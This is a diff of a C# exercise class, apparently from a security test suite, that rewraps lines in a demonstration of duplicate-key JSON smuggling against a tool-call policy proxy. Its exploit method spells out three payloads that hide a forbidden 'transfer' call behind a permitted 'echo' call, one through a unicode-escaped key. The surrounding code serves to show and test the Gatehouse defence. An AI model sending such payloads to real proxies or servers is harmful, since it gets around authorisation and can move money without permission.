@@ -27,9 +27,12 @@ public sealed class DuplicateKeys : FilteredExercise
 
     /// <inheritdoc />
     public override Story Story { get; } = new(
-        "A policy proxy finds the tool's name by reading until the first \"name\". The server behind it, on the official TypeScript SDK, keeps the last.",
-        "Mallory writes the name twice: echo, which he may call, and transfer, which nobody may. The same with an escape in the second, and with params twice.",
-        "Gatehouse forwards only messages that every reader reads alike. A member that occurs twice, also after unescaping, is refused before anyone decides anything.",
+        "A policy proxy finds the tool's name by reading until the first \"name\". The server behind it, on the official TypeScript SDK, keeps the "
+            + "last.",
+        "Mallory writes the name twice: echo, which he may call, and transfer, which nobody may. The same with an escape in the second, and with "
+            + "params twice.",
+        "Gatehouse forwards only messages that every reader reads alike. A member that occurs twice, also after unescaping, is refused before "
+            + "anyone decides anything.",
         "With a stage that reads the first and forwards the bytes, money moves again.");
 
     /// <inheritdoc />
@@ -45,11 +48,15 @@ public sealed class DuplicateKeys : FilteredExercise
     internal override async Task<IReadOnlyList<Attempt>> ExploitAsync(Scene scene) =>
     [
         await SendAsync(scene, "name twice", (client, amount) =>
-            client.Body("tools/call", "{\"name\":\"echo\",\"arguments\":{\"text\":\"x\",\"amount\":" + Quoted(amount) + "},\"name\":\"transfer\"}")).ConfigureAwait(false),
+            client.Body("tools/call",
+                "{\"name\":\"echo\",\"arguments\":{\"text\":\"x\",\"amount\":" + Quoted(amount) + "},\"name\":\"transfer\"}")).ConfigureAwait(false),
         await SendAsync(scene, "name twice, one escaped", (client, amount) =>
-            client.Body("tools/call", "{\"name\":\"echo\",\"n\\u0061me\":\"transfer\",\"arguments\":{\"text\":\"x\",\"amount\":" + Quoted(amount) + "}}")).ConfigureAwait(false),
+            client.Body("tools/call", "{\"name\":\"echo\",\"n\\u0061me\":\"transfer\",\"arguments\":{\"text\":\"x\",\"amount\":"
+                + Quoted(amount) + "}}")).ConfigureAwait(false),
         await SendAsync(scene, "params twice", (client, amount) =>
-            client.Body("tools/call", "{\"name\":\"echo\",\"arguments\":{\"text\":\"x\"}},\"params\":{\"name\":\"transfer\",\"arguments\":{\"amount\":" + Quoted(amount) + "}}")).ConfigureAwait(false),
+            client.Body("tools/call",
+                "{\"name\":\"echo\",\"arguments\":{\"text\":\"x\"}},\"params\":{\"name\":\"transfer\",\"arguments\":{\"amount\":"
+                    + Quoted(amount) + "}}")).ConfigureAwait(false),
     ];
 
     private static string Quoted(string text) => JsonSerializer.Serialize(text);
